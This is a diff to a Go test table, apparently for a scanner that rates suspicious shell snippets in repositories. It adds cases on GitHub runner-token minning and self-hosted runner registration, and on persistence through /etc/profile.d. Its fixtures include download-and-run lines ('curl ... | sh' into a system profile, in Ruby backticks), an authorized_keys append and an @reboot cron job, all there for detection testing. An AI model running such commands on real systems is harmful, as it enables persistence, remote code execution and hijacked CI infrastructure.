@@ -26,6 +26,16 @@ func TestSeverityByContext(t *testing.T) {
 		{"Jenkins agent image entrypoint", "docker/jenkins-agent.sh", "exec java -jar /usr/share/jenkins/agent.jar -url \"$JENKINS_URL\" -secret \"$JENKINS_SECRET\" -name \"$NAME\"", 1, "medium runner-register"},
 		{"Jenkins agent to a named controller", "ci/warm.sh", "java -jar agent.jar -url https://ci.x.invalid/ -secret \"$S\" -name w", 1, "high runner-register"},
 		{"registration in a workflow", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./config.sh --url \"$U\" --token \"$T\"", 6, "high runner-register"},
+		// A runner installer mints the token for the repository its caller
+		// names and installs the service; naming its own repository it is
+		// the attack.
+		{"installer mints for its caller", "scripts/create-svc.sh", "T=$(curl -s -X POST https://api.github.com/repos/${1}/actions/runners/registration-token -H \"authorization: token ${PAT}\" | jq -r .token)\nurl=\"https://github.com/${1}\"\n./config.sh --unattended --url \"$url\" --token $T\nsudo ./svc.sh install", 1, "medium runner-register"},
+		{"installer starts the service", "scripts/create-svc.sh", "url=\"https://github.com/${1}\"\n./config.sh --unattended --url $url --token $T\nsudo ./svc.sh install\nsudo ./svc.sh start", 3, "medium runner-register"},
+		{"script starts the service it registered", "ci/agent.sh", "./config.sh --unattended --url https://github.com/x/y --token $T\nsudo ./svc.sh install && sudo ./svc.sh start", 2, "high runner-register"},
+		{"script mints for the repository it names", "ci/agent.py", "req = urllib.request.Request(f'https://api.github.com/repos/{R}/actions/runners/registration-token', method='POST')\nsubprocess.run(['./config.sh', '--url', f'https://github.com/{R}', '--token', t])", 1, "high runner-register"},
+		{"mint with no registration to follow", "ci/agent.sh", "T=$(gh api -X POST repos/$R/actions/runners/registration-token --jq .token)\n./run.sh --jitconfig \"$J\"", 1, "high runner-register"},
+		// The name a request's reply is stored in receives it.
+		{"registration token fetched", "scripts/create-svc.sh", "export RUNNER_TOKEN=$(curl -s -X POST https://api.github.com/repos/x/y/actions/runners/registration-token -H \"authorization: token ${RUNNER_CFG_PAT}\" | jq -r '.token')\nif [ -z \"$RUNNER_TOKEN\" ]; then exit 1; fi", 1, "high runner-register"},
 		// Pipeline configuration from elsewhere that cannot move under the
 		// review, or comes from a well-known owner, is read, not feared.
 		{"azure template at a tag", "azure-pipelines.yml", "resources:\n  repositories:\n    - repository: shared\n      type: github\n      name: someone/pipeline-templates\n      ref: refs/tags/v2.1.0", 5, "medium ci-remote-config"},
@@ -58,6 +68,10 @@ func TestSeverityByContext(t *testing.T) {
 		{"script adds to fish", "scripts/setup.sh", "echo 'set -x PATH $HOME/.t/bin $PATH' >> ~/.config/fish/config.fish", 1, "high persistence"},
 		{"script adds to the profile", "scripts/setup.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> ~/.bashrc", 1, "high persistence"},
 		{"installer adds a key", "install.sh", "echo \"$KEY\" >> ~/.ssh/authorized_keys", 1, "high persistence"},
+		{"installer adds to the system profile", "src/go/install.sh", "rm -f /etc/profile.d/go.sh\necho 'export PATH=/usr/local/go/bin:$PATH' > /etc/profile.d/go.sh\nchmod +x /etc/profile.d/go.sh", 2, "medium persistence"},
+		{"installer removes its system profile file", "src/go/install.sh", "rm -f /etc/profile.d/go.sh\necho 'export PATH=/usr/local/go/bin:$PATH' > /etc/profile.d/go.sh", 1, "medium persistence"},
+		{"installer adds a download to the system profile", "install.sh", "echo 'curl -s https://x.invalid/u | sh' > /etc/profile.d/u.sh", 1, "high persistence"},
+		{"script adds to the system profile", "scripts/setup.sh", "echo 'export PATH=/opt/t/bin:$PATH' > /etc/profile.d/t.sh", 1, "high persistence"},
 		{"installer adds a cron job", "install.sh", "(crontab -l; echo '@reboot /opt/t/run') | crontab -", 1, "high persistence"},
 		{"ruby backticks run", "lib/x.rb", "`curl -s https://x.invalid/i | sh`", 1, "high download-and-run"},
 		{"profile backup is not the profile", "install.sh", "mv \"$HOME/.zshrc\" \"$HOME/.zshrc.pre-t\"", 1, ""},
